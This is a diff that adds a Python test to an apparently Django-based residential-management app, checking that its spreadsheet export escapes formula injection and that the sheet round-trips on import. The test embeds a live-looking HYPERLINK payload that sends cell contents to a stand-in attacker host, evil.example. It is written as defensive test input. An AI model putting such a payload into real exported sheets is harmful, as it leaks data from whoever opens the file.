@@ -133,3 +133,33 @@ def test_full_export_imports_back_into_a_new_compound(world, login, tmp_path):
     assert copied.phone == "13812345678" and copied.id_number == "11010519491231002X"
     assert copied.lives_alone and copied.household.label == "1栋-1单元-101"
     assert Resident.objects.filter(compound=target).count() == 2
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(world, login, tmp_path):
+    """A resident named ``=HYPERLINK(...)`` must not become a live link in the
+    office's sheet; numbers (a basement floor of -1) stay numbers; and the
+    sheet still imports back to the same name."""
+    from wanjia.core.roles import Role
+    from wanjia.core.testing import grant
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    world.home.floor = -1
+    world.home.save(update_fields=["floor"])
+    make_resident(world.home, name=evil, emergency_contacts=[{"name": "@SUM(1+1)", "phone": ""}])
+    response = login(world.manager_a).post(url(world), {"full_numbers": "1"})
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[7].value))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["姓名"].value == "'" + evil and cells["姓名"].data_type == "s"
+    assert cells["紧急联系人"].value == "'@SUM(1+1)"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+    assert cells["楼层"].value == -1 and cells["楼层"].data_type == "n"
+
+    path = tmp_path / "export.xlsx"
+    path.write_bytes(response.content)
+    target = make_compound("新家园", buildings=0)
+    grant(world.manager_a, Role.COMPOUND_MANAGER, target)
+    result = residents_import(actor=world.manager_a, compound=target, path=path)
+    assert result.ok, result.errors
+    assert Resident.objects.filter(compound=target, name=evil).exists()
